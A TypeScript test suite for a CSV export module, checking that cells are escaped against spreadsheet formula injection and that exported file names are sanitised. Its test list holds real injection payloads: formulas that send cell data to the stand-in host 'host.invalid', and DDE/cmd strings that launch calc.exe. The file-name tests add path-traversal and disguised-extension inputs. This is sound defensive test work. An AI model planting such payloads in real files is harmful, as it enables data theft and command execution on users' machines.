import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvContent } from '@/files/csvContent'
import { clipboardTable, csvText, unprotectCell } from '@/files/csvText'
import { fileNameOf } from '@/files/saveFile'
import { forAll } from '../cases'
import { anyText, fields, fileOf } from './fixture'

/** Cells as another reader of CSV files sees them. */
const cellsOf = (text: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data

/** A formula begins with one of these, also in other widths. */
const signs = [...'=+-@＝＋－＠﹦﹢﹣﹫']
/** What a reader may skip before one. */
const before = ['', ...'\t\r\n\0 \u00A0\u3000\u200B\uFEFF\u202E\u0007', "'"]

/** Things that a spreadsheet runs, requests from another host, or passes to the machine. */
const attacks = [
  '=1+1',
  '=HYPERLINK("https://host.invalid/?x="&A1,"查看")',
  '=WEBSERVICE("https://host.invalid/"&A1)',
  '=IMPORTXML(CONCAT("https://host.invalid/",A1),"//a")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=10+20+cmd|' /C calc'!A0",
  ...before.flatMap((blank) => signs.map((sign) => `${blank}${sign}1`)),
  '=',
  '-',
  '@',
  '\0',
  '\r\n=1',
  '   @SUM(A1)',
  '+86 154****0001',
  "''=1",
  "'\t=1",
]

/** Texts that only look similar, and must stay as they are. */
const harmless = [
  '',
  'a\t',
  'a=1',
  'a@example.com',
  '1-2',
  '2024-06-01',
  '0',
  "'quoted'",
  "it's",
  "'",
  '154****0001',
  '"=1"',
  'E10',
]

const codes = ['1.5E-3', '123456789012', '8800000000000000123', '00123', '007', '12E5']

/** Texts that a spreadsheet would change. */
const dangerous = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^\0|^[\t\r\n]\s*\S|^\d{12,}$|^0\d+$/u

describe('a text in a CSV file', () => {
  it('is tried with at least forty attacks', () => {
    expect(new Set(attacks).size).toBeGreaterThanOrEqual(40)
  })

  it.each(attacks)('%j is no formula: an apostrophe stands before it', (attack) => {
    expect(cellsOf(csvText([['x', attack, 'y']]))).toEqual([['x', `'${attack}`, 'y']])
  })

  it.each(harmless)('%j is left as it is', (text) => {
    expect(cellsOf(csvText([['x', text, 'y']]))).toEqual([['x', text, 'y']])
  })

  it.each(codes)('%j is no number: a tab stands behind it', (code) => {
    expect(cellsOf(csvText([['x', code, 'y']]))).toEqual([['x', `${code}\t`, 'y']])
  })

  it('begins with a byte order mark, and its lines end in CRLF', () => {
    expect(csvText([['备注'], ['a,"b"']])).toBe('\uFEFF备注\r\n"a,""b"""\r\n')
    expect(csvText([])).toBe('\uFEFF')
  })

  it('is read back by any reader, whatever it is, with at most one mark', () => {
    const signs = fc.constantFrom(...'=+-@\'\t\r\n "，,;＝0123456789eE')
    const text = fc.oneof(anyText, fc.string({ unit: signs }))
    forAll([fc.array(fc.array(text, { minLength: 2, maxLength: 4 }))], { runs: 50 }, (rows) => {
      const { data } = Papa.parse<string[]>(csvText(rows).slice(1), { delimiter: ',', newline: '\r\n' })
      const read = data.slice(0, -1)
      expect(read.map((cells) => cells.length)).toEqual(rows.map((cells) => cells.length))
      const seen = read.flat()
      const bad = rows.flat().filter((cell, at) => {
        const shown = seen[at] ?? ''
        const isMarked = shown === cell || shown === `'${cell}` || shown === `${cell}\t`
        return !isMarked || dangerous.test(shown) || unprotectCell(shown) !== cell.trim()
      })
      expect(bad).toEqual([])
    })
  })
})

describe('a written CSV file', () => {
  const written = async (record: Record<string, string | number | boolean | null>) => {
    const content = csvContent(fileOf('csv'))
    content.write(0, [record])
    const [header, row] = cellsOf(await (await content.finish()).text())
    return { header, row }
  }

  it('has its numbers and times without marks, its codes and texts with them', async () => {
    const { header, row } = await written({
      ...{ tid: '8800000000000000123', fee: -12_900, price: 999_999_999_999_999, count: -3, share: -38 },
      ...{ paid: 1_717_200_059, until: '2024-02-29', open: false, state: 'NEW', memo: '-1', note: '＝1' },
    })
    expect(header).toEqual(Object.keys(fields).map((name) => `列 ${name}`))
    expect(row).toEqual([
      '8800000000000000123\t',
      '-129.00',
      '999999999999.999',
      '-3',
      '-0.38%',
      '2024-06-01 08:00:59',
      '2024-02-29',
      '否',
      'NEW',
      "'-1",
      "'＝1",
    ])
  })

  it('has what is not of its kind as text', async () => {
    const odd = { fee: '=1', count: '-1', paid: '+1', until: '@1', state: '=2', open: null }
    const { row } = await written(odd)
    expect(row).toEqual(['', "'=1", '', "'-1", '', "'+1", "'@1", '', "'=2", '', ''])
  })

  it('begins with the byte order mark, in bytes', async () => {
    const file = await csvContent(fileOf('csv')).finish()
    expect([...new Uint8Array(await file.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })
})

it('what is copied keeps the form of a table, and is no formula where it is pasted', () => {
  const rows = [
    ['甲\t店\r\n', '=HYPERLINK("x")'],
    ['0123456789012', ''],
  ]
  expect(clipboardTable(rows)).toBe('甲 店\t\'=HYPERLINK("x")\n0123456789012\t')
})

const time = Date.UTC(2026, 10, 21, 7, 30, 0, 999)

it.each([
  ['交易记录', '交易记录_20261121-153000.csv'],
  ['a/b\\c:d*e?f"g<h>i|j', 'a_b_c_d_e_f_g_h_i_j_20261121-153000.csv'],
  ['..\\..\\etc', '_.._etc_20261121-153000.csv'],
  ['.hidden', 'hidden_20261121-153000.csv'],
  ['a\r\nb\u0000c', 'a_b_c_20261121-153000.csv'],
  ['fdp.\u202Eexe', 'fdp._exe_20261121-153000.csv'],
  [' ', 'table_20261121-153000.csv'],
  ['😀'.repeat(100), `${'😀'.repeat(80)}_20261121-153000.csv`],
])('the file of %j is named so that every system takes it', (title, name) => {
  expect(fileNameOf(title, 'csv', time)).toBe(name)
})
